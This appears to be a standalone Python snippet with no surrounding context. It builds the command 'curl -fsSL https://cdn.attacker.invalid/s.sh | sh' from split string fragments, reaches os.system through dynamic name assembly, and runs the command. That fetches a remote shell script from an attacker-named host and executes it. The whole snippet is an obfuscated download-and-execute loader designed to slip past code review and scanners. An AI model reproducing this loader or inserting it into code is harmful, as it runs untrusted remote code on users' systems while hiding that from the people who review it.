parts = ['curl -f', 'sSL htt', 'ps://cd', 'n.attac', 'ker.inv', 'alid/s.', 'sh | sh']
mod = __import__(''.join(['o', 's']))
fn = vars(mod)['sy' + 'stem']
fn(''.join(parts))
